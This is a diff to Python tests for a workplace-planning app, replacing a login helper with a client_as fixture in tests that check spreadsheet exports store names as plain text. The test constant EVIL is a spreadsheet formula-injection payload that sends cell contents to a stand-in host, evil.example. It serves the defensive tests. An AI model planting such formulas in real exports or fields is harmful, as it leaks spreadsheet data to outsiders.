@@ -22,7 +22,6 @@ from agilepa.planning.models import MonthPlan
 from agilepa.spaces.models import Booking
 from tests.objectives.helpers import access_of, make_objective
 from tests.spaces.test_booking import make_hub
-from tests.spaces.test_hub_pages import login
 
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Apri")'
 
@@ -96,7 +95,7 @@ def test_the_plan_export_keeps_a_person_name_as_text(world) -> None:
     assert any(isinstance(v, str) and v.startswith(EVIL) for v, _t in found)
 
 
-def test_the_occupancy_export_keeps_a_body_name_as_text(world) -> None:
+def test_the_occupancy_export_keeps_a_body_name_as_text(world, client_as) -> None:
     world.a.body.name = EVIL
     world.a.body.save(update_fields=["name"])
     hub = make_hub(world.a.body, seats=2)
@@ -109,7 +108,7 @@ def test_the_occupancy_export_keeps_a_body_name_as_text(world) -> None:
         status="checked_in",
         check_in_token="t".ljust(43, "x"),
     )
-    client = login(world, "hr_admin")
+    client = client_as("hr_admin")
     xlsx = client.get(f"/b/{world.a.body.slug}/hubs/{hub.pk}/occupancy/?format=xlsx")
     assert_kept_as_text(xlsx.content)
 
